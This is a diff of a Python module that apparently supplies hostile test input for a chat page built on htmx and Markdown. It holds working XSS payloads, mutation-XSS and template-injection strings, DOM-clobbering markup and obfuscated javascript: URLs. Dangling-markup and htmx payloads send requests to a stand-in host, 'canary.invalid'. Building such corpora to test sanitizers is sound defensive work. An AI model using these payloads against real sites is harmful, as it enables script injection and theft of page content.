@@ -1,14 +1,14 @@
-"""Words that mean harm. What succeeds is heard of: it acts on `window`, on the title, or on CANARY."""
+"""Hostile text. A payload that works sets `window.hit`, changes the title or sends a request to CANARY."""
 
 from __future__ import annotations
 
 import base64
 from itertools import product
 
-CANARY = "canary.invalid"  # stands for the address of a server that must hear nothing
+CANARY = "canary.invalid"  # stands for the address of a server that must receive no request
 ACT = "window.hit=1;document.title='hit'"
 
-# What makes a browser run or fetch something: tags, each with a way to do it.
+# Elements that load something, and elements with event handlers.
 _SOURCES = ["img", "audio", "video", "source", "track", "embed", "iframe", "frame", "input type=image", "script"]
 _HANDLERS = {
     "img src=x": "onerror",
@@ -108,7 +108,7 @@ SCRIPTS = [
     "{% raw %}{{ 7 * 7 }}{% endraw %} {{ config }} #{7*7} <%= 7*7 %>",
     "{{ ''.__class__.__mro__ }} {% include 'page.html' %} {# x #}",
 ]
-# What other parsers, and the same one the second time, may see differently.
+# HTML that parsers disagree on, or that changes when it is parsed a second time.
 MUTATIONS = [
     f"<svg><style><img src=x onerror={ACT}></style></svg>",
     f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
@@ -149,7 +149,7 @@ MUTATIONS = [
     f"<im\u200bg src=x onerror={ACT}>",
     f"<ımg src=x onerror={ACT}><ſvg onload={ACT}>",
 ]
-# What only begins: whatever follows on the page would be swallowed.
+# Unclosed markup, which would swallow what follows on the page.
 DANGLING = [
     f"<img src='http://{CANARY}/dangling?",
     f'<img src="http://{CANARY}/dangling?',
@@ -157,83 +157,27 @@ DANGLING = [
     f"<a href='http://{CANARY}/dangling?",
     f"<form action='http://{CANARY}/dangling'><textarea name=x>",
     f"<meta http-equiv=refresh content='0; http://{CANARY}/dangling?",
-    "<base target='",
-    "<!--",
-    "<![CDATA[",
-    "<?php",
-    "<textarea>",
-    "<title>",
-    "<style>",
-    "<script>",
-    "<xmp>",
-    "<plaintext>",
-    "<noscript>",
-    "<template>",
-    "<select>",
-    "<svg>",
-    "<math>",
-    "<table>",
-    "<button>",
-    "<a href=/rooms>",
-    "<details open>",
-    "<dialog open>",
-    "<p style='",
+    *("<base target='", "<!--", "<![CDATA[", "<?php", "<textarea>", "<title>", "<style>", "<script>", "<xmp>"),
+    *("<plaintext>", "<noscript>", "<template>", "<select>", "<svg>", "<math>", "<table>", "<button>"),
+    *("<a href=/rooms>", "<details open>", "<dialog open>", "<p style='"),
     "</div></div></article></div></section></main></body></html>",
     "</p></pre></code></span></li></ul></details></article>",
     "</span></a></li></ul></nav>",
-    '"',
-    "'",
-    "`",
-    '">',
-    "'>",
-    "\\",
-    "&",
-    "&#",
-    "&#x",
-    "<",
-    "</",
-    "<!",
-    "<?",
-    ">",
-    "]]>",
-    "-->",
+    *('"', "'", "`", '">', "'>", "\\", "&", "&#", "&#x", "<", "</", "<!", "<?", ">", "]]>", "-->"),
 ]
-# What htmx takes for its own, wherever it is swapped in, and what our behaviours listen to.
-_HX = [
-    "get",
-    "post",
-    "put",
-    "patch",
-    "delete",
-    "ws:connect",
-    "sse:connect",
-    "boost",
-    "on:click",
-    "swap-oob",
-    "select-oob",
-    "trigger",
-    "vals",
-    "headers",
-    "ext",
-]
-_HX += [
-    "confirm",
-    "include",
-    "push-url",
-    "replace-url",
-    "target",
-    "select",
-    "preserve",
-    "prompt",
-    "sync",
-    "indicator",
-    "encoding",
-    "history-elt",
-    "ignore",
-]
+# Attributes and elements of htmx, and attributes that the page's own scripts react to.
+_HX = (
+    "get post put patch delete ws:connect sse:connect boost on:click swap-oob select-oob trigger vals headers ext "
+    "confirm include push-url replace-url target select preserve prompt sync indicator encoding history-elt ignore"
+)
+_DATA = (
+    "data-dismiss data-copy data-wrap data-copy-message data-copy-link data-cancel data-stop data-clear data-delete "
+    "data-open-drawer data-close-drawer data-yes=hit data-own data-theme-choice=dark data-rename=/rooms "
+    "data-countdown=0 data-press='#new-room' data-room=x"
+)
 HTMX = [
-    *(f"<div hx-{name}=/rooms hx-trigger=load>x</div>" for name in _HX),
-    *(f"<div data-hx-{name}='js:{ACT}'>x</div>" for name in _HX[:12]),
+    *(f"<div hx-{name}=/rooms hx-trigger=load>x</div>" for name in _HX.split()),
+    *(f"<div data-hx-{name}='js:{ACT}'>x</div>" for name in _HX.split()[:12]),
     "<hx-partial hx-target='#sidebar' hx-swap=innerHTML>hit</hx-partial>",
     "<hx-partial hx-target='body'>hit</hx-partial>",
     "</hx-partial><hx-partial hx-target='#room' hx-swap='delete'></hx-partial>",
@@ -254,141 +198,35 @@ HTMX = [
     f"<div hx-get=http://{CANARY}/hx hx-trigger=load>x</div>",
     f"<div hx-ws:connect=ws://{CANARY}/ws>x</div>",
     f"<script hx-eval>{ACT}</script>",
-    *(
-        f"<button {name} autofocus>hit</button>"
-        for name in (
-            *(
-                "data-dismiss",
-                "data-copy",
-                "data-wrap",
-                "data-copy-message",
-                "data-copy-link",
-                "data-cancel",
-                "data-stop",
-            ),
-            *("data-clear", "data-delete", "data-open-drawer", "data-close-drawer", "data-yes=hit", "data-own"),
-            *(
-                "data-theme-choice=dark",
-                "data-rename=/rooms",
-                "data-countdown=0",
-                "data-press='#new-room'",
-                "data-room=x",
-            ),
-        )
-    ),
+    *(f"<button {name} autofocus>hit</button>" for name in _DATA.split()),
 ]
-# Names that would be found instead of ours.
-_IDS = [
-    "room",
-    "rooms",
-    "rooms-place",
-    "header",
-    "messages",
-    "message-1",
-    "message-2",
-    "after-2",
-    "part-2-0",
-    "part-2-0-open",
-    "part-2-0-done",
-    "composer",
-]
-_IDS += [
-    "error",
-    "connection",
-    "announcer",
-    "confirm",
-    "confirm-question",
-    "rename",
-    "edit",
-    "palette",
-    "keys",
-    "sidebar",
-    "filter",
-    "scroller",
-    "end",
-    "newer",
+# Ids, names and classes that the page itself uses.
+_IDS = (
+    "room rooms rooms-place header messages message-1 message-2 after-2 part-2-0 part-2-0-open part-2-0-done composer "
+    "error connection announcer confirm confirm-question rename edit palette keys sidebar filter scroller end newer"
+)
+_GLOBALS = "htmx body head title cookie forms store tabStore getElementById location"
+_CLASSES = [
+    *("message message--user", "message__body", "message__state", "open", "open__foot", "composer", "header", "dialog"),
+    *("error", "connection", "notices", "sidebar", "row", "row__link", "row__name", "unseen", "skip", "menu__items"),
+    *("code", "code__bar", "code__button", "button button--primary", "part part--text", "palette", "icon icon--send"),
 ]
 CLOBBERS = [
-    *(f"<a id={name} name={name} href=x>hit</a>" for name in _IDS),
+    *(f"<a id={name} name={name} href=x>hit</a>" for name in _IDS.split()),
     *(
         f"<form name={name}><input name=attributes><input name=action></form><img name={name}>"
-        for name in (
-            "htmx",
-            "body",
-            "head",
-            "title",
-            "cookie",
-            "forms",
-            "store",
-            "tabStore",
-            "getElementById",
-            "location",
-        )
+        for name in _GLOBALS.split()
     ),
-    *(
-        f"<div class='{name}'>hit</div>"
-        for name in (
-            *(
-                "message message--user",
-                "message__body",
-                "message__state",
-                "open",
-                "open__foot",
-                "composer",
-                "header",
-                "dialog",
-            ),
-            *(
-                "error",
-                "connection",
-                "notices",
-                "sidebar",
-                "row",
-                "row__link",
-                "row__name",
-                "unseen",
-                "skip",
-                "menu__items",
-            ),
-            *(
-                "code",
-                "code__bar",
-                "code__button",
-                "button button--primary",
-                "part part--text",
-                "palette",
-                "icon icon--send",
-            ),
-        )
-    ),
+    *(f"<div class='{name}'>hit</div>" for name in _CLASSES),
     "<slot name=x></slot><div slot=x part=y is=x-y itemid=x role=alert accesskey=x tabindex=-1>hit</div>",
     "<div popover popovertarget=rename inert hidden contenteditable draggable=true>hit</div>",
     "<button popovertarget=rename command=show-modal commandfor=confirm form=composer formaction=/rooms>hit</button>",
     "<input form=composer name=text value=hit><label for=filter>hit</label><output form=composer>",
 ]
-# Addresses, for everything that Markdown has to write one.
+# URLs, in every Markdown syntax for links and images.
 _SCHEMES = [
-    "javascript",
-    "JaVaScRiPt",
-    "java\tscript",
-    "java\nscript",
-    "\x01javascript",
-    "javascript\u200b",
-    "vbscript",
-]
-_SCHEMES += [
-    "data",
-    "blob",
-    "file",
-    "filesystem",
-    "view-source",
-    "feed",
-    "jar",
-    "ms-word",
-    "intent",
-    "ws",
-    "chrome",
-    "about",
+    *("javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "\x01javascript", "javascript\u200b", "vbscript"),
+    *("data", "blob", "file", "filesystem", "view-source", "feed", "jar", "ms-word", "intent", "ws", "chrome", "about"),
 ]
 ADDRESSES = [
     *(f"{scheme}:{ACT}" for scheme in _SCHEMES),
@@ -421,31 +259,15 @@ ADDRESSES = [
 ]
 _FORMS = ["[x]({})", "[x](<{}>)", "![x]({})", "[![x]({})]({})", "<{}>", "[x]: {}\n\n[x] ![x]", '[x](/a "{}")', "{}"]
 LINKS = [form.replace("{}", address) for form, address in product(_FORMS, ADDRESSES)]
-# What Markdown makes of marks, with something else in them.
+# Markup inside Markdown syntax.
 _TRICKS = [f"<img src=x onerror={ACT}>", f'" onclick="{ACT}', "' class='message", "</code></pre><script>hit</script>"]
 _PLACES = [
-    "```{}\ncode\n```",
-    "~~~ {}\n{}\n~~~",
-    "`{}`",
-    "    {}",
-    "# {}",
-    "- [x] {}",
-    "> {}",
-    "|{}|\n|:-:|\n|{}|",
-    "|a|\n|:-{}|\n|b|",
-]
-_PLACES += [
-    "**{}**",
-    "~~{}~~",
-    "[{}]: /x '{}'\n\n[{}]",
-    "1{}. x",
-    "\\{}",
-    "[^{}]: x\n\n[^{}]",
-    "```html {}\n{}\n```",
-    "{}\n===",
+    *("```{}\ncode\n```", "~~~ {}\n{}\n~~~", "`{}`", "    {}", "# {}", "- [x] {}", "> {}", "|{}|\n|:-:|\n|{}|"),
+    *("|a|\n|:-{}|\n|b|", "**{}**", "~~{}~~", "[{}]: /x '{}'\n\n[{}]", "1{}. x", "\\{}", "[^{}]: x\n\n[^{}]"),
+    *("```html {}\n{}\n```", "{}\n==="),
 ]
 MARKS = [place.replace("{}", trick) for place, trick in product(_PLACES, _TRICKS)]
-# What is not seen, or seen elsewhere.
+# Invisible and direction-changing characters, control characters, and payloads for other interpreters.
 INVISIBLE = [
     *(
         f"a{chr(code)}<b onclick={ACT}>c{chr(code)}d"
